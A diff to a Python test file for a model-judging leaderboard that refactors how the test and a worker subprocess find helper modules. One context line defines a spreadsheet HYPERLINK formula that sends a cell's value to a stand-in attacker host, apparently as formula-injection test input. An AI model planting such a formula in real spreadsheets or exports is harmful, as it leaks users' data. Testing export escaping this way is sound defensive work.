@@ -31,8 +31,8 @@ from mmjudge.leaderboard.store import Store
 from mmjudge.leaderboard.tracks.models import HARMONIC_EVAL
 from mmjudge.leaderboard.worker import Worker
 from mmjudge.testing import ScriptedJudge
+from repo_paths import HELPERS, ROOT
 
-ROOT = Path(__file__).resolve().parents[1]
 CRITERIA = ["correctness", "fluency"]
 SETTINGS = {**DEFAULTS, "judge": "dummy", "bootstrap": 100, "arena_items_per_pair": 4, "batch_size": 2}
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"click")'
@@ -209,7 +209,7 @@ WORKER = textwrap.dedent(
     from mmjudge.leaderboard.tracks.models import HARMONIC_EVAL
     from mmjudge.leaderboard.worker import Worker
     from mmjudge.testing import ScriptedJudge
-    sys.path.insert(0, sys.argv[4])
+    sys.path[:0] = sys.argv[4:]  # this test's folder and tests/helpers/ (repo_paths, imported by it)
     from test_leaderboard_arena import CRITERIA, SETTINGS, longer_is_better
 
     data_dir, sid, log = sys.argv[1], sys.argv[2], open(sys.argv[3], "a", encoding="utf-8")
@@ -249,7 +249,7 @@ def test_a_worker_killed_mid_job_loses_nothing_and_the_next_judges_only_missing_
     folder = board / JOBS / sid
 
     def start(log: Path) -> subprocess.Popen:
-        args = [sys.executable, str(script), str(board), sid, str(log), str(ROOT / "tests")]
+        args = [sys.executable, str(script), str(board), sid, str(log), str(Path(__file__).parent), str(HELPERS)]
         return subprocess.Popen(args, env=env, cwd=str(tmp_path))
 
     first = start(tmp_path / "first.log")
